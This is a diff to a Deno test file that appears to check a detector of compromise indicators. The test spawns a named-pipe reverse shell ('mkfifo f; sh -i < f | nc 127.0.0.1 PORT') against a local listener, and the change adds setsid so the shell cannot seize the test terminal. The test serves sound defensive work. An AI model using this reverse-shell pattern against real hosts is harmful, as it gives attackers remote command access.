@@ -180,11 +180,14 @@ Deno.test({
 Deno.test({
   name:
     "ioc relay live: mkfifo f; sh -i < f | nc 127.0.0.1 PORT > f — the shell is named with nc as its relay",
-  ignore: missing("/usr/bin/nc", "/usr/bin/mkfifo") !== undefined,
+  ignore: missing("/usr/bin/nc", "/usr/bin/mkfifo", "/usr/bin/setsid") !== undefined,
   async fn() {
     const l = listener();
     const dir = Deno.makeTempDirSync({ prefix: "ioc-fifo-" });
-    const outer = spawn("/bin/sh", [
+    // In a session of its own: an interactive shell turns job control on and would take over the controlling
+    // terminal of the test run (and stop or hang it) if it could open one.
+    const outer = spawn("/usr/bin/setsid", [
+      "/bin/sh",
       "-c",
       `mkfifo ${dir}/f && /bin/sh -i < ${dir}/f 2>&1 | /usr/bin/nc 127.0.0.1 ${l.port} > ${dir}/f`,
     ]);
